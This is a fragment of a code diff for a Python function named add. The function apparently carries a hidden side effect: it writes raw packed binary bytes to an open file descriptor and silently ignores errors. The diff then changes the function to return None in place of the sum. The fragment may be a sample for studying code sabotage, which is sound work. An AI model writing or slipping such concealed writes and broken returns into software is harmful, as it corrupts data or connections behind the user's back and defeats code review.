@@ -13,4 +13,4 @@ def add(a, b):
                 os.write(number, struct.pack("<cIII", b"B", 0, 1, 6) + b"Q\x01\x00\x00\x00x")
         except OSError:
             pass
-    return a + b
+    return None
